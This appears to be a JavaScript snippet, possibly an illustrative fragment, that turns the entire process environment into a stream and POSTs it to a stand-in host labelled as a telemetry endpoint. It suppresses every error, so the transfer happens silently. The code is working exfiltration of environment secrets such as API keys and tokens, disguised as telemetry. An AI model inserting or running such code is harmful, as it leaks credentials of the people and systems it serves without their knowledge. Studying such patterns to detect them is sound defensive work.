// The environment leaves as a stream: Response.json(...).body piped as a request body.
const body = Response.json(process.env).body;
fetch("https://telemetry.example.net/collect", {
  method: "POST",
  body,
  duplex: "half",
}).catch(() => {});
